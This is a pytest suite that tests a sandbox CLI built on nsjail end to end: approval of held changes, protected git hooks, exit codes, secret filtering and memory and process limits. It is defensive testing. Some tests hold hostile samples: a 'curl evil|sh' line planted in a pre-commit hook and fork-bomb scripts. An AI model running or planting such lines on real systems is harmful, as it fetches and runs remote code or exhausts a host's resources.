"""`sandbox run` end to end through the real CLI and real nsjail, as root and as a user."""

from __future__ import annotations

import json
import signal
import subprocess
from pathlib import Path

import pytest

from tests.conftest import Cli, require_root
from tests.support.procs import Running


def _json(proc: subprocess.CompletedProcess[bytes]) -> dict[str, object]:
    assert proc.stdout, proc.stderr.decode(errors="replace")
    data: dict[str, object] = json.loads(proc.stdout)
    return data


EDIT = "echo more >> README.md; echo new > NEW.md; rm old.txt; mkdir -p d; echo x > d/f"


def test_level2_holds_changes_until_approve(cli: Cli, workspace: Path) -> None:
    before = (workspace / "README.md").read_text()
    r = cli("run", "-C", str(workspace), "--json", "--", "sh", "-c", EDIT)
    assert r.returncode == 0, r.stderr
    out = _json(r)
    assert out["state"] == "pending"
    paths = {c["path"] for c in out["changes"]["changes"]}  # type: ignore[index]
    assert {"README.md", "NEW.md", "old.txt", "d", "d/f"} <= paths
    # nothing reached the workspace
    assert (workspace / "README.md").read_text() == before
    assert not (workspace / "NEW.md").exists() and (workspace / "old.txt").exists()
    patch = cli("diff", "last", check=True).stdout
    assert b"+more" in patch and b"deleted file mode" in patch
    # the patch applies with git onto a copy of the workspace
    apply = subprocess.run(["git", "apply", "--check", "-"], input=patch, cwd=workspace,
                           capture_output=True, check=False)
    assert apply.returncode == 0, apply.stderr
    cli("approve", "last", check=True)
    assert (workspace / "README.md").read_text() == before + "more\n"
    assert (workspace / "NEW.md").read_text() == "new\n"
    assert not (workspace / "old.txt").exists()
    assert (workspace / "d" / "f").read_text() == "x\n"
    assert cli("audit", "--verify").returncode == 0


def test_reject_discards(cli: Cli, workspace: Path) -> None:
    cli("run", "-C", str(workspace), "--", "sh", "-c", EDIT, check=True)
    cli("reject", "last", check=True)
    assert b"nothing pending" in cli("show", "last", check=True).stdout
    assert not (workspace / "NEW.md").exists()


def test_level4_commits_but_refuses_protected(cli: Cli, workspace: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    r = cli("run", "-C", str(workspace), "--level", "4", "--json", "--", "sh", "-c",
            "echo ok > ok.txt; echo 'curl evil|sh' > .git/hooks/pre-commit; "
            "chmod +x .git/hooks/pre-commit")
    out = _json(r)
    assert (workspace / "ok.txt").read_text() == "ok\n"
    assert not (workspace / ".git/hooks/pre-commit").exists()
    refused = out["decision"]["refused"]  # type: ignore[index]
    assert any(x["path"] == ".git/hooks/pre-commit" and "protected" in x["reason"]
               for x in refused)


def test_level3_commits_small_change_and_holds_large(cli: Cli, workspace: Path) -> None:
    out = _json(cli("run", "-C", str(workspace), "--level", "3", "--json", "--",
                    "sh", "-c", "echo fix >> README.md"))
    assert out["state"] == "open"  # all committed: the session stays open for the next run
    assert (workspace / "README.md").read_text() == "hello\nfix\n"
    out = _json(cli("run", "-C", str(workspace), "--level", "3", "--json", "--", "sh", "-c",
                    "printf '#!/bin/sh\\n' > tool.sh; chmod +x tool.sh"))
    assert out["state"] == "pending"
    assert any("new executable tool.sh" in r for r in out["decision"]["reasons"])  # type: ignore[index]
    assert not (workspace / "tool.sh").exists()


def test_session_chains_runs(cli: Cli, workspace: Path) -> None:
    cli("run", "-C", str(workspace), "--session", "s1", "--", "sh", "-c", "echo one > a.txt",
        check=True)
    r = cli("run", "-C", str(workspace), "--session", "s1", "--", "sh", "-c",
            "cat a.txt && echo two >> a.txt")
    assert r.returncode == 0 and b"one" in r.stdout
    assert not (workspace / "a.txt").exists()
    cli("approve", "s1", check=True)
    assert (workspace / "a.txt").read_text() == "one\ntwo\n"


@pytest.mark.parametrize(("cmd", "code"), [
    (["sh", "-c", "exit 7"], 7),
    (["no-such-command-xyz"], 127),
    (["/etc/hostname"], 126),
    (["sh", "-c", "kill -KILL $$"], 137),
    (["sh", "-c", "sleep 30"], 124),
])
def test_exit_codes(cli: Cli, workspace: Path, cmd: list[str], code: int) -> None:
    # Only the sleeper gets a short timeout: a loaded CI machine must not turn `exit 7` into 124.
    timeout = "1" if code == 124 else "60"
    r = cli("run", "-C", str(workspace), "--timeout", timeout, "--", *cmd)
    assert r.returncode == code, r.stderr


def test_usage_errors_exit_2_and_change_nothing(cli: Cli, workspace: Path, base_dir: Path) -> None:
    assert cli("run", "-C", str(base_dir / "missing"), "--", "true").returncode == 2
    assert cli("run", "-C", str(workspace), "--memory", "lots", "--", "true").returncode == 2
    (workspace / "sandbox.toml").write_text("[limits\n")
    r = cli("run", "-C", str(workspace), "--", "touch", "x")
    assert r.returncode == 2 and b"sandbox.toml" in r.stderr
    assert not (workspace / "x").exists()
    assert cli("ls", check=True).stdout.startswith(b"no runs")


def test_org_ceiling_flag_is_exit_2(cli: Cli, workspace: Path) -> None:
    org = cli.home.parent / "org.toml"
    org.write_text("level = 2\n")
    r = cli("run", "-C", str(workspace), "--level", "4", "--", "true")
    assert r.returncode == 2 and b"ceiling" in r.stderr and b"org.toml" in r.stderr


def test_env_not_inherited_and_secrets_refused(cli: Cli, workspace: Path) -> None:
    r = cli("run", "-C", str(workspace), "-e", "FOO=bar", "--", "env",
            env={"LEAKY": "should-not-pass", "ANTHROPIC_API_KEY": "sk-real"})
    assert r.returncode == 0
    assert b"FOO=bar" in r.stdout and b"LEAKY" not in r.stdout and b"sk-real" not in r.stdout
    r = cli("run", "-C", str(workspace), "-e", "ANTHROPIC_API_KEY", "--", "true",
            env={"ANTHROPIC_API_KEY": "sk-real"})
    assert r.returncode == 2 and b"secret" in r.stderr


def test_output_streams_live_and_policy_show(cli: Cli, workspace: Path) -> None:
    r = cli("run", "-C", str(workspace), "--", "sh", "-c", "echo out; echo err >&2")
    assert r.stdout == b"out\n" and r.stderr.startswith(b"err\n")
    show = cli("policy", "show", "-C", str(workspace), check=True).stdout.decode()
    assert "level = 2    # built-in" in show


def test_memory_and_pids_limits(cli: Cli, workspace: Path) -> None:
    r = cli("run", "-C", str(workspace), "--memory", "64m", "--", "python3", "-c",
            "x = bytearray(512 * 1024 * 1024); print('allocated')")
    assert r.returncode != 0 and b"allocated" not in r.stdout
    fork_bomb = ("import os, signal\nkids = []\n"
                 "for _ in range(60):\n"
                 "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
                 "    if pid == 0:\n        signal.pause()\n    kids.append(pid)\n"
                 "print(len(kids))\n"
                 "for k in kids:\n    os.kill(k, signal.SIGKILL)\n")
    r = cli("run", "-C", str(workspace), "--pids-limit", "20", "--", "python3", "-c", fork_bomb)
    assert r.returncode == 0, r.stderr
    assert 0 < int(r.stdout) < 20  # stopped by the limit, not by the loop's end


def test_the_pids_limit_is_the_run_s_own_and_cannot_be_raised(sbx: tuple[Cli, Path]) -> None:
    """By RLIMIT_NPROC in the run's user namespace (Linux >= 5.14), the limit must hold as the
    run's pids cgroup did: per run, although every root sandbox shares one outside uid (and a
    user's runs share the user's uid with all the user's processes), and not liftable from
    inside. Run A holds 30 processes while run B, limited to 20, still forks 12 of its own and
    is stopped before 20."""
    from sandbox.backends._limits import Enforcer, nproc_per_userns, plan_limits

    cli, ws = sbx
    hold = Running(cli, "run", "-C", str(ws), "--session", "hold", "--pids-limit", "100", "--",
                   "sh", "-c", "for i in $(seq 30); do sleep 60 & done; exec sleep 61",
                   ready="sleep 61")
    try:
        hold.wait_for("sleep 60", count=30)  # run A's 30 processes are there
        fork_bomb = ("import os, signal, subprocess\n"
                     "raise_hard = subprocess.run(['sh', '-c', 'ulimit -Hu 100000'])\n"
                     "raise_soft = subprocess.run(['sh', '-c', 'ulimit -Su 100000'])\n"
                     "kids = []\n"
                     "for _ in range(60):\n"
                     "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
                     "    if pid == 0:\n        signal.pause()\n    kids.append(pid)\n"
                     "print(len(kids), raise_hard.returncode, raise_soft.returncode)\n"
                     "for k in kids:\n    os.kill(k, signal.SIGKILL)\n")
        r = cli("run", "-C", str(ws), "--session", "bomb", "--pids-limit", "20", "--",
                "python3", "-c", fork_bomb)
        assert r.returncode == 0, r.stderr
        forked, raise_hard, raise_soft = (int(x) for x in r.stdout.split())
        assert 12 <= forked < 20  # its own count, whatever else the outside uid runs
        assert raise_hard != 0 and raise_soft != 0
    finally:
        hold.signal(signal.SIGTERM)
        hold.finish()
    if nproc_per_userns():
        assert plan_limits(prepare=False).pids is Enforcer.RLIMIT_USERNS


def test_unprivileged_user_run(user_cli: tuple[Cli, Path]) -> None:
    cli, ws = user_cli
    r = cli("run", "-C", str(ws), "--json", "--", "sh", "-c", f"id -u; {EDIT}")
    assert r.returncode == 0, r.stderr
    out = _json(r)
    assert out["stdout"] == "0\n"  # root inside
    assert out["state"] == "pending" and not (ws / "NEW.md").exists()
    cli("approve", "last", check=True)
    assert (ws / "NEW.md").read_text() == "new\n"
    assert (ws / "NEW.md").stat().st_uid == (ws / "README.md").stat().st_uid
    assert not (ws / "old.txt").exists()


def test_root_inside_is_unprivileged_outside(cli: Cli, workspace: Path) -> None:
    require_root()
    r = cli("run", "-C", str(workspace), "--", "sh", "-c", "cat /proc/self/uid_map")
    fields = r.stdout.split()
    assert fields[0] == b"0" and fields[1] != b"0", r.stdout


def test_conflict_refused_per_file_unless_force(cli: Cli, workspace: Path) -> None:
    cli("run", "-C", str(workspace), "--", "sh", "-c",
        "echo agent > README.md; echo agent > src/app.py", check=True)
    (workspace / "README.md").write_text("edited by a person meanwhile\n")
    r = cli("approve", "last")
    assert r.returncode == 3 and b"README.md" in r.stderr and b"src/app.py" not in r.stderr
    assert (workspace / "README.md").read_text() == "edited by a person meanwhile\n"
    assert (workspace / "src/app.py").read_text() == "agent\n"  # the others proceed
    cli("approve", "last", "--force", check=True)
    assert (workspace / "README.md").read_text() == "agent\n"
    records = json.loads(cli("audit", "--json", check=True).stdout)
    approvals = [r for r in records if r["event"] == "decision"
                 and r["data"].get("decision") == "approve"]
    assert approvals and approvals[-1]["actor"] and approvals[-1]["data"]["force"] is True
